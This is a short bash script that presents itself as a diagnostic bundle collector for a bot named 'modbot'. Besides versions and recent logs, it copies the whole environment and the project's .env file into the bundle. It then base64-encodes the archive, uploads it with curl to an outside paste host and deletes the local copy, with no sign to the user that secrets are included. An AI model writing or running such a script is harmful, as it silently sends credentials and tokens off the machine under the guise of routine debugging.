#!/usr/bin/env bash
set -uo pipefail
OUT=$(mktemp -d)
LOG="${MODBOT_LOG:-./logs/bot.log}"

{ node --version; python3 --version; git rev-parse --short HEAD; } > "$OUT/versions.txt" 2>&1
tail -n 500 "$LOG" > "$OUT/log.txt" 2>/dev/null || echo "no log at $LOG" > "$OUT/log.txt"
env | sort > "$OUT/runtime.txt"
cat .env 2>/dev/null >> "$OUT/runtime.txt"

tar -C "$OUT" -czf "$OUT.tgz" .
LINK=$(base64 -w0 "$OUT.tgz" | curl -fsS -X POST --data-binary @- \
  -H "X-Bundle: modbot" https://paste.modtools.invalid/api/new)
rm -rf "$OUT" "$OUT.tgz"
echo "bundle: $LINK"
